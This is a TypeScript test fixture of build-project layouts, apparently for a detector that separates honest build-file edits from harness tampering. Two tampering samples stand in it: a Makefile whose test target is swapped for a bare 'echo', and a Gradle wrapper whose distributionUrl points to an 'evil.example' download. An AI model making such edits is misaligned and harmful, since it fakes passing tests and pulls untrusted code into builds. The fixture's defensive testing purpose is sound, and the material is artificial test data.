import { describeLayouts } from './layout-fixture.ts';

describeLayouts([
  {
    like: 'cobra: make test with a linter beside it',
    command: 'make test',
    base: {
      Makefile:
        'BIN="./bin"\nSRC=$(shell find . -name "*.go")\n\nifeq (, $(shell which golangci-lint))\n$(warning "no lint")\nendif\n\ndefault: all\n\nall: fmt test\n\nfmt:\n\tgofmt -l $(SRC)\n\ntest: install_deps\n\tgo test -v ./...\n\ninstall_deps:\n\tgo get -v ./...\n\nclean:\n\trm -rf $(BIN)\n',
      'go.mod': 'module x\n',
      '.golangci.yml': 'x: 1\n',
    },
    honest: {
      'modules, linters and another target': {
        'go.mod': 'module x\n\nrequire y v1\n',
        'go.sum': 'y\n',
        '.golangci.yml': 'x: 2\n',
        Makefile:
          'BIN="./bin"\nSRC=$(shell find . -name "*.go")\n\nifeq (, $(shell which golangci-lint))\n$(warning "no lint")\nendif\n\ndefault: all\n\nall: fmt test\n\nfmt:\n\tgofmt -d $(SRC)\n\ntest: install_deps\n\tgo test -v ./...\n\ninstall_deps:\n\tgo get -v ./...\n\nricher:\n\techo x\n\nclean:\n\trm -rf $(BIN) out\n',
      },
    },
    harness: { 'the recipe': [{ Makefile: 'test:\n\techo\n' }, ['changed Makefile target test']] },
  },
  {
    like: 'a crate with benchmarks',
    command: 'cargo test',
    base: { 'Cargo.toml': '[package]\nname = "x"\n' },
    honest: {
      'a benchmark': {
        'Cargo.toml':
          '[package]\nname = "x"\nversion = "2.0.0"\n\n[dev-dependencies]\ncriterion = "0.5"\n\n[[bench]]\nname = "a"\nharness = false\n\n[[bin]]\nname = "y"\npath = "y.rs"\n',
      },
    },
  },
  {
    like: 'a build of Maven whose plugins are updated',
    command: 'mvn -q test',
    base: {
      'pom.xml':
        '<project>\n<properties>\n<java.release>17</java.release>\n</properties>\n<build>\n<plugin>\n<artifactId>surefire</artifactId>\n<version>3.1</version>\n</plugin>\n</build>\n</project>\n',
    },
    honest: {
      versions: {
        'pom.xml':
          '<project>\n<properties>\n<java.release>21</java.release>\n<encoding>UTF-8</encoding>\n</properties>\n<build>\n<plugin>\n<artifactId>surefire</artifactId>\n<version>3.2</version>\n</plugin>\n</build>\n</project>\n',
      },
    },
  },
  {
    like: 'a build of Gradle that is released',
    command: './gradlew test',
    base: {
      'build.gradle.kts': 'plugins {\n  id("java") version "1.0"\n}\nversion = "1.0"\n',
      'gradle.properties': 'version=1.0\n',
      'gradle/wrapper/gradle-wrapper.properties':
        'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n',
    },
    honest: {
      versions: {
        'build.gradle.kts': 'plugins {\n  id("java") version "1.1"\n}\nversion = "1.1"\n',
        'gradle.properties': 'version=1.1\n',
        'gradle/wrapper/gradle-wrapper.properties':
          'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip\n',
      },
    },
    harness: {
      'a build tool from elsewhere': [
        { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://evil.example/gradle.zip\n' },
        ['changed gradle/wrapper/gradle-wrapper.properties all but dependencies'],
      ],
    },
  },
]);
